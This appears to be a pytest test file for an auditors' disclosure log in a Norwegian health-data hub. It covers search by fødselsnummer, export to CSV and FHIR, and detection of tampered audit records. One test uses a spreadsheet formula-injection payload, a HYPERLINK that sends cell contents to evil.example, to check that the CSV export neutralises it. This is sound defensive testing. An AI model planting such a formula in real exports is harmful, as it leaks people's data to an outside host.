"""The auditors' disclosure log (CONTRACT section 8) over the shared example story: finding the
person, each receiving organisation and basis, reads by other organisations, filters, the
exports, the state of the trail and the printable bokmål copy."""

from __future__ import annotations

import csv
import html
import io
import json
import re

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from typer.testing import CliRunner

from hub.audit.cli import audit_app
from hub.audit.models import AuditRecordRow
from hub.auth.subject import Subject
from hub.config import Settings, get_settings
from hub.db.engine import Database
from hub.fhir.identifiers import FNR_SYSTEM
from hub.store import service
from hub.ui import disclosures
from hub.ui.disclosures import csv_cell
from tests.access_clients import other_client
from tests.audit.trail import settle
from tests.ui.conftest import SHARED_FNR as FNR
from tests.ui.conftest import Browser, make_user, sign_in


def _patient_id(database: Database) -> str:
    with database.session(write=False) as s:
        [found] = service.find_by_identifier(s, Subject.hub_itself(), system=FNR_SYSTEM,
                                             value=FNR, resource_types=frozenset({"Patient"}))
        return found.id


def _auditor(browser: Browser, lang: str | None = "en") -> TestClient:
    client = browser(lang=lang)
    assert sign_in(client, "revisor").status_code == 303
    return client


def _section(page: str, heading: str) -> str:
    start = page.index(f">{heading}</h2>")
    return page[start:page.find("</section>", start)]


def _rows(section: str) -> list[str]:
    body = section.split("<tbody>")[1] if "<tbody>" in section else ""
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", body, flags=re.S)
    # the text a browser shows: tags out, entities (an escaped apostrophe) read
    return [html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", r))).strip()
            for r in rows]


def test_an_auditor_finds_the_person_by_fodselsnummer_and_sees_who_got_what_on_what_basis(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    client = _auditor(browser)
    found = client.get("/ui/audit/people", params={"number": FNR})
    assert found.status_code == 303
    assert found.headers["location"] == f"/ui/audit/people/{pid}"
    page = client.get(found.headers["location"]).text
    messages = _rows(_section(page, "Messages about the person, newest first"))
    # one line per routing decision: to Time kommune for each message the centre sent, and
    # to Jæren DPS for each answer the municipality sent
    def line(organisation: str, event: str) -> str:
        return next(r for r in messages if organisation in r and event in r)

    for event in ("Consent changed", "Individual plan shared", "Admission notice",
                  "Meeting invitation", "Discharge notice"):
        assert line("Time kommune", event)
    assert line("Jæren DPS", "Answer to a meeting")
    # the consent as basis links to the version in force; the admission notice rests on the
    # consent too, which permits all of it (its statutory basis alone would send only the
    # administrative content)
    assert re.search(r'href="#Consent-[^"]+-v1">Consent \(version 1\)', page)
    assert "Consent (version 1)" in line("Time kommune", "Admission notice")
    # newest first: the follow-up contact (14) comes before the consent (01)
    first_contact = next(i for i, r in enumerate(messages) if "Follow-up contact" in r)
    consent = max(i for i, r in enumerate(messages) if "Consent changed" in r)
    assert first_contact < consent
    # the consent timeline: who recorded it and whom it names
    timeline = _section(page, "Consents over time, newest first")
    assert "recorded by Jæren DPS" in timeline
    assert "Names as recipients: Time kommune" in timeline
    # the trail's state
    assert "disclosure records are intact" in _section(page, "State of the audit trail")


def test_reads_by_another_organisation_are_listed_with_their_basis(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    r = shared_story["time-kommune"].get("/fhir/CarePlan", params={"patient": f"Patient/{pid}"})
    assert r.status_code == 200
    page = _auditor(browser).get(f"/ui/audit/people/{pid}").text
    reads = _rows(_section(page, "Reads by other organisations, newest first"))
    assert reads, "Time kommune's search of the plan is a read of the person's records"
    assert reads[0].split(" ")[2:4] == ["Time", "kommune"]
    assert "Search" in reads[0]
    assert "CarePlan" in reads[0]
    assert "Consent (version" in reads[0]


def test_the_log_filters_by_organisation_period_and_decision(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    client = _auditor(browser)
    only_dps = client.get(f"/ui/audit/people/{pid}",
                          params={"organization": "Organization/jaeren-dps"}).text
    rows = _rows(_section(only_dps, "Messages about the person, newest first"))
    assert rows
    assert all("Jæren DPS" in r for r in rows)
    assert not any("Time kommune" in r for r in rows)
    withheld = client.get(f"/ui/audit/people/{pid}", params={"decision": "deny"}).text
    assert all("Withheld" in r for r in _rows(_section(
        withheld, "Messages about the person, newest first")))
    ahead = client.get(f"/ui/audit/people/{pid}", params={"from": "2999-01-01"}).text
    assert "No messages about the person match." in ahead
    bad = client.get(f"/ui/audit/people/{pid}", params={"from": "yesterday"})
    assert bad.status_code == 400


def test_the_log_exports_as_csv_and_as_a_fhir_bundle(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    client = _auditor(browser)
    exported = client.get(f"/ui/audit/people/{pid}/log.csv")
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {r["recipient_name"] for r in rows} >= {"Time kommune", "Jæren DPS"}
    admission = next(r for r in rows if r["event"] == "admission-notice")
    assert admission["basis"].startswith("Consent/")  # the consent permits all of it
    assert admission["decision"] != "deny"
    plan = next(r for r in rows if r["event"] == "care-plan-shared")
    assert plan["basis"].startswith("Consent/")
    assert plan["basis_version"].startswith(plan["basis"] + "/_history/")
    bundle = client.get(f"/ui/audit/people/{pid}/trail.json")
    assert bundle.status_code == 200
    assert bundle.headers["content-type"].startswith("application/fhir+json")
    body = bundle.json()
    assert body["resourceType"] == "Bundle"
    assert body["type"] == "collection"
    kinds = {e["resource"]["resourceType"] for e in body["entry"]}
    assert kinds == {"Consent", "AuditEvent"}


def test_name_and_birth_date_find_the_person_and_a_wrong_check_digit_is_refused(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    client = _auditor(browser)
    found = client.get("/ui/audit/people", params={"name": "Kari Nordmann",
                                                   "born": "1969-11-13"})
    assert found.status_code == 200
    assert f'href="/ui/audit/people/{pid}"' in found.text
    wrong = client.get("/ui/audit/people", params={"number": "13116900217"})
    assert wrong.status_code == 400
    assert "check digit" in wrong.text


def test_only_auditors_see_the_log_and_each_view_is_audited(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    coordinator = browser()
    assert sign_in(coordinator, "koordinator.time").status_code == 303
    assert coordinator.get(f"/ui/audit/people/{pid}").status_code == 403
    assert coordinator.get("/ui/audit/people", params={"number": FNR}).status_code == 403

    def views() -> int:
        settle(database)  # a view's record waits in the read spool until moved
        with database.session(write=False) as s:
            return len(list(s.scalars(select(AuditRecordRow.seq).where(
                AuditRecordRow.agent == "User/revisor",
                AuditRecordRow.patient_ref == f"Patient/{pid}"))))

    before = views()
    _auditor(browser).get(f"/ui/audit/people/{pid}/innsyn")
    assert views() == before + 1


def test_the_innsyn_copy_is_in_bokmal_whatever_the_auditors_language(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    page = _auditor(browser, lang="en").get(f"/ui/audit/people/{pid}/innsyn")
    assert page.status_code == 200
    assert '<html lang="nb">' in page.text
    assert "Hvem har fått og lest hva om deg" in page.text
    assert "Ditt samtykke" in page.text
    assert "Et svar på noe de sendte" in page.text  # the basis `reply`, in words
    assert "Time kommune" in page.text


def test_a_changed_record_shows_in_the_state_of_the_trail(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    pid = _patient_id(database)
    with database.session(write=True) as s:
        seq = s.scalar(select(AuditRecordRow.seq).where(
            AuditRecordRow.patient_ref == f"Patient/{pid}",
            AuditRecordRow.subtype == "disclose").limit(1))
        body = s.scalar(select(AuditRecordRow.body).where(AuditRecordRow.seq == seq))
        assert body is not None
        s.execute(update(AuditRecordRow).where(AuditRecordRow.seq == seq).values(
            body=bytes(body).replace(b"permit", b"deny!!")))
    page = _auditor(browser).get(f"/ui/audit/people/{pid}").text
    assert "fail the check" in _section(page, "State of the audit trail")


def test_a_copied_record_shows_in_the_state_of_the_trail(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    """A byte copy of one of the person's genuine records, inserted with a new seq and an
    empty event_id (as whoever drops the unique index can), passes every check of its own;
    the state of the trail still names it, as `hub audit verify` does. The control: before
    the copy, the state is clean."""
    pid = _patient_id(database)
    section = _section(_auditor(browser).get(f"/ui/audit/people/{pid}").text,
                       "State of the audit trail")
    assert "fail the check" not in section
    with database.session(write=True) as s:
        original = s.scalars(select(AuditRecordRow).where(
            AuditRecordRow.patient_ref == f"Patient/{pid}",
            AuditRecordRow.subtype == "disclose").order_by(AuditRecordRow.seq.desc())
            .limit(1)).one()
        columns = {c.key: getattr(original, c.key) for c in AuditRecordRow.__table__.columns
                   if c.key not in ("seq", "leaf_index", "event_id")}
        s.add(AuditRecordRow(**columns, event_id=None))
    page = _auditor(browser).get(f"/ui/audit/people/{pid}").text
    assert "1 of this person's" in _section(page, "State of the audit trail")
    assert "copied into the trail" in _section(page, "State of the audit trail")


def test_each_disclosure_record_names_the_event_that_led_to_it(
        shared_story: dict[str, TestClient], database: Database) -> None:
    with database.session(write=False) as s:
        bodies = [json.loads(bytes(b)) for b in s.scalars(select(AuditRecordRow.body).where(
            AuditRecordRow.subtype == "disclose"))]
    events = set()
    for body in bodies:
        for entity in body.get("entity", []):
            for detail in entity.get("detail", []):
                if detail["type"] == "event":
                    events.add(detail["valueString"])
    assert {"consent-changed", "care-plan-shared", "admission-notice",
            "discharge-notice"} <= events


def test_the_state_of_the_trail_says_when_it_was_last_verified_whole(
        shared_story: dict[str, TestClient], database: Database, browser: Browser,
        settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    pid = _patient_id(database)
    client = _auditor(browser)
    never = _section(client.get(f"/ui/audit/people/{pid}").text, "State of the audit trail")
    assert "has never been verified" in never
    monkeypatch.setenv("HUB_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("HUB_AUDIT_KEY_FILE", settings.audit_key_file)
    get_settings.cache_clear()  # the command reads the environment once per process
    try:
        result = CliRunner().invoke(audit_app, ["verify"])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    said = next(ln for ln in result.output.splitlines() if ln.endswith("records intact"))
    intact = int(said.split()[0])
    state = _section(client.get(f"/ui/audit/people/{pid}").text, "State of the audit trail")
    assert "The whole trail was last verified" in state
    assert f"{intact} records intact." in state


def test_a_party_updating_anothers_task_is_shown_among_the_reads(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    """Time kommune, owner of the centre's ready-for-discharge question, sets its status by
    REST: the answer shows it the centre's Task, a disclosure the gate logs with interaction
    update. The auditor finds it among the reads by other organisations, in words, and not
    among the messages."""
    pid = _patient_id(database)
    time_kommune = shared_story["time-kommune"]
    tasks = time_kommune.get("/fhir/Task", params={"patient": f"Patient/{pid}"}).json()
    [question] = [e["resource"] for e in tasks["entry"]
                  if e["resource"]["code"]["coding"][0]["code"] == "discharge-readiness"
                  and e["resource"]["status"] == "accepted"]
    assert question["owner"]["reference"] == "Organization/time-kommune"
    r = time_kommune.put(f"/fhir/Task/{question['id']}", json=question)
    assert r.status_code == 200, r.text
    assert int(r.json()["meta"]["versionId"]) == int(question["meta"]["versionId"]) + 1
    page = _auditor(browser).get(f"/ui/audit/people/{pid}").text
    reads = _rows(_section(page, "Reads by other organisations, newest first"))
    messages = _rows(_section(page, "Messages about the person, newest first"))
    label = "Updated another organisation's record it is a party to"
    [line] = [r for r in reads if label in r]
    assert "Time kommune" in line
    assert "task-party" in line
    assert question["id"] in line
    assert not [r for r in messages if "update" in r or label in r]
    # and in bokmål, for the person's copy as for the auditor who reads it so
    page = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}").text
    assert "Oppdaterte en annen virksomhets oppføring som den er part i" in page


def test_a_record_that_cannot_be_read_is_shown_as_such_not_a_failure(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    """A disclosure record whose body was edited into bytes that are not UTF-8 (so not an
    AuditEvent) is a line of its own in every view of the log, whatever the filters, where
    reading it had failed the page (500); a custodian's $consent-trail leaves it out."""
    pid = _patient_id(database)
    client = _auditor(browser)
    custodian = shared_story["jaeren-dps"]
    before = _rows(_section(client.get(f"/ui/audit/people/{pid}").text,
                            "Messages about the person, newest first"))
    theirs = {e["resource"]["id"] for e in custodian.get(
        f"/fhir/Patient/{pid}/$consent-trail").json()["entry"]
        if e["resource"]["resourceType"] == "AuditEvent"}
    with database.session(write=True) as s:  # the newest decision the custodian was shown
        seq, body = next((row.seq, bytes(row.body)) for row in s.execute(
            select(AuditRecordRow.seq, AuditRecordRow.body).where(
                AuditRecordRow.patient_ref == f"Patient/{pid}",
                AuditRecordRow.subtype == "disclose").order_by(AuditRecordRow.seq.desc()))
            if json.loads(bytes(row.body))["id"] in theirs)
        s.execute(update(AuditRecordRow).where(AuditRecordRow.seq == seq).values(
            body=b"\xff" + body))

    page = client.get(f"/ui/audit/people/{pid}")
    assert page.status_code == 200
    messages = _rows(_section(page.text, "Messages about the person, newest first"))
    assert len(messages) == len(before)  # the line is still there, as what it now is
    assert sum(r.endswith(f" Record {seq} cannot be read: it was changed after it was "
                          "written.") for r in messages) == 1
    assert "fail the check" in _section(page.text, "State of the audit trail")
    for decision in ("permit", "deny"):  # no filter hides it
        filtered = client.get(f"/ui/audit/people/{pid}", params={"decision": decision}).text
        assert f"Record {seq} cannot be read" in filtered
    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
    assert [(r["decision"], r["reason"]) for r in rows if r["decision"] == "unreadable"] == [
        ("unreadable", "its body is not UTF-8 text")]
    assert len(rows) == len(before) + len(
        _rows(_section(page.text, "Reads by other organisations, newest first")))
    innsyn = client.get(f"/ui/audit/people/{pid}/innsyn")
    assert innsyn.status_code == 200
    assert "Denne oppføringen kan ikke leses" in innsyn.text
    for trail in (client.get(f"/ui/audit/people/{pid}/trail.json"),
                  client.get(f"/fhir/Patient/{pid}/$consent-trail")):
        assert trail.status_code == 200
        outcomes = [e["resource"] for e in trail.json()["entry"]
                    if e["resource"]["resourceType"] == "OperationOutcome"]
        assert [o["issue"][0]["diagnostics"].split(" (")[0] for o in outcomes] == [
            f"Audit record {seq}"]
        assert "cannot be read: its body is not UTF-8 text" in (
            outcomes[0]["issue"][0]["diagnostics"])
    # the custodian's part, less the record that can no longer be told to be theirs
    mine = custodian.get(f"/fhir/Patient/{pid}/$consent-trail")
    assert mine.status_code == 200
    shown = [e["resource"] for e in mine.json()["entry"]]
    assert "OperationOutcome" not in {r["resourceType"] for r in shown}
    assert theirs - {r["id"] for r in shown} == {json.loads(body)["id"]}


def test_no_csv_cell_starts_like_a_spreadsheet_formula(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    """A coordinator named like a formula reads the person (requested_by), and Time kommune's
    directory name starts with `-` (recipient_name): in the CSV each such cell starts with a
    single quote (OWASP), so a spreadsheet shows it as text; the FHIR Bundle export keeps the
    name as recorded, and ordinary names stay as they are."""
    pid = _patient_id(database)
    formula = '=HYPERLINK("http://evil.example/?d="&A2&B2,"open")a'
    make_user(database, formula, role="coordinator", organization_id="time-kommune")
    make_user(database, "@SUM(1+1)", role="coordinator", organization_id="time-kommune")
    for name in (formula, "@SUM(1+1)", "koordinator.time"):
        coordinator = browser()
        assert sign_in(coordinator, name).status_code == 303
        assert coordinator.get(f"/ui/people/{pid}").status_code == 200
    with database.session(write=True) as s:
        org = service.read(s, Subject.hub_itself(), resource_type="Organization",
                           resource_id="time-kommune").body
        assert org is not None
        service.update(s, Subject.hub_itself(), resource_type="Organization",
                       resource_id="time-kommune", resource={**org, "name": "-2+3 kommune"})
    client = _auditor(browser)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
    asked = {r["requested_by"] for r in rows}
    assert {f"'{formula}", "'@SUM(1+1)", "koordinator.time"} <= asked
    assert formula not in asked
    names = {r["recipient_name"] for r in rows}
    assert "'-2+3 kommune" in names
    assert "Jæren DPS" in names  # the control: an ordinary name as it is
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for cell in row.values())
    bundle = client.get(f"/ui/audit/people/{pid}/trail.json").json()
    recorded = json.dumps(bundle, ensure_ascii=False)
    assert json.dumps(formula)[1:-1] in recorded  # the Bundle is unchanged: the name as given
    assert f"'{formula}" not in recorded


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+47 123", "'+47 123"), ("-3", "'-3"), ("@x", "'@x"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Time kommune", "Time kommune"), ("", ""),
    ("a=b", "a=b"), ("2026-12-05T10:00:00+00:00", "2026-12-05T10:00:00+00:00")])
def test_a_csv_cell_is_quoted_only_when_it_starts_like_a_formula(value: str,
                                                                 cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_read_of_the_patient_by_an_organisation_holding_records_has_its_own_basis(
        shared_story: dict[str, TestClient], database: Database, browser: Browser,
        settings: Settings) -> None:
    """Klepp kommune holds a record about Kari (its own Flag) and has no consent of hers, so
    it may see who she is (CONTRACT section 3), her identity only: the record names the basis
    `holds-records`, the log and the CSV show it, and the person's copy says why in words,
    not "neither consent nor law allows it" (which stays for what was withheld). Time
    kommune, which holds records too and has her consent, reads her whole Patient on the
    consent (the control), and the consent-based lines keep "Your consent"."""
    pid = _patient_id(database)
    time = shared_story["time-kommune"].get(f"/fhir/Patient/{pid}")
    assert time.status_code == 200
    assert "address" in time.json()  # on her consent: all of it
    with other_client(settings, database, "klepp-kommune") as klepp:
        flag = klepp.post("/fhir/Flag", json={
            "resourceType": "Flag", "status": "active", "code": {"text": "Home visits"},
            "subject": {"reference": f"Patient/{pid}"}})
        assert flag.status_code == 201, flag.text
        r = klepp.get(f"/fhir/Patient/{pid}")
    assert r.status_code == 200
    assert set(r.json()) <= {"resourceType", "id", "meta", "identifier", "name", "gender",
                             "birthDate"}
    settle(database)  # the read's records wait in the read spool until moved
    with database.session(write=False) as s:
        bodies = [json.loads(bytes(b)) for b in s.scalars(select(AuditRecordRow.body).where(
            AuditRecordRow.patient_ref == f"Patient/{pid}",
            AuditRecordRow.subtype == "disclose"))]
    found = []
    for body in bodies:
        [basis] = [e for e in body["entity"] if e["role"]["code"] == "13"]
        details = {d["type"]: d["valueString"] for d in basis["detail"]}
        if details.get("interaction") == "read":
            [recipient] = [a["who"]["reference"] for a in body["agent"]
                           if a["who"].get("reference", "").startswith("Organization/")][:1]
            found.append((recipient, details["decision"], details.get("basis"),
                          basis.get("name")))
    assert found[-1] == ("Organization/klepp-kommune", "permit", "holds-records",
                         "legal basis")
    assert found[-2][:2] == ("Organization/time-kommune", "permit")
    assert str(found[-2][2]).startswith("Consent/")
    client = _auditor(browser)
    page = client.get(f"/ui/audit/people/{pid}").text
    reads = _rows(_section(page, "Reads by other organisations, newest first"))
    assert "Holds records about the person ( holds-records )" in reads[0]
    assert not any(" none " in f" {r} " for r in reads)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
    assert rows[0]["interaction"] == "read"
    assert rows[0]["basis"] == "holds-records"
    nb_page = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}").text
    assert "Har opplysninger om personen" in nb_page
    innsyn = client.get(f"/ui/audit/people/{pid}/innsyn").text
    [row] = [r for r in _rows(_section(innsyn, "Opplysninger om deg som ble delt eller holdt "
                                               "tilbake"))
             if "De leste opplysningene dine" in r][:1]
    assert "De har opplysninger om deg, og kan derfor se hvem du er" in row
    assert "Verken samtykke eller lov gir adgang" not in innsyn
    assert "Ditt samtykke" in innsyn
    assert "(reply)" not in innsyn  # a basis in words, not its code


def test_a_cut_log_says_so_and_never_claims_all(
        shared_story: dict[str, TestClient], database: Database, browser: Browser,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """With more records than the page shows (LIMIT, here 5): the page and the innsyn copy
    say that only the newest are shown and how many there are, the trail's state says "the
    newest 5 of N", not "all 5"; the CSV holds every record. The control: under the limit,
    no such notice and "All N"."""
    pid = _patient_id(database)
    client = _auditor(browser)
    whole = client.get(f"/ui/audit/people/{pid}").text
    assert "Only the newest" not in whole
    assert re.search(r"All \d+ of this person's disclosure records are intact", whole)
    total = len(list(csv.DictReader(io.StringIO(
        client.get(f"/ui/audit/people/{pid}/log.csv").text))))
    assert total > 5
    monkeypatch.setattr(disclosures, "LIMIT", 5)
    page = client.get(f"/ui/audit/people/{pid}").text
    shown = (_rows(_section(page, "Messages about the person, newest first"))
             + _rows(_section(page, "Reads by other organisations, newest first")))
    assert len(shown) == 5
    assert "Only the newest 5 matching records are shown below" in page
    assert "The CSV and FHIR Bundle exports hold every record." in page
    assert "All 5" not in page
    assert re.search(r"The newest 5 of this person's \d+ disclosure records are intact", page)
    rows = list(csv.DictReader(io.StringIO(client.get(f"/ui/audit/people/{pid}/log.csv").text)))
    assert len(rows) >= total  # the CSV is complete (the views above added their own reads)
    innsyn = client.get(f"/ui/audit/people/{pid}/innsyn").text
    assert "Denne kopien viser bare de nyeste 5 av de" in innsyn
    # the filters narrow first, and the limit counts the lines that match
    dps = client.get(f"/ui/audit/people/{pid}",
                     params={"organization": "Organization/jaeren-dps"}).text
    assert _rows(_section(dps, "Messages about the person, newest first"))


def test_a_bad_filter_is_refused_in_the_pages_language(
        shared_story: dict[str, TestClient], database: Database, browser: Browser) -> None:
    """The error page says in bokmål what was wrong (not "Det går ikke Give the period as
    dates."); in English, in English (the control)."""
    pid = _patient_id(database)
    nb = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}", params={"from": "banana"})
    assert nb.status_code == 400
    assert "Oppgi perioden som datoer." in nb.text
    assert "Give the period as dates." not in nb.text
    nb = _auditor(browser, lang="nb").get(f"/ui/audit/people/{pid}",
                                          params={"decision": "maybe"})
    assert "Velg en avgjørelse fra listen." in nb.text
    en = _auditor(browser).get(f"/ui/audit/people/{pid}", params={"from": "banana"})
    assert "Give the period as dates." in en.text
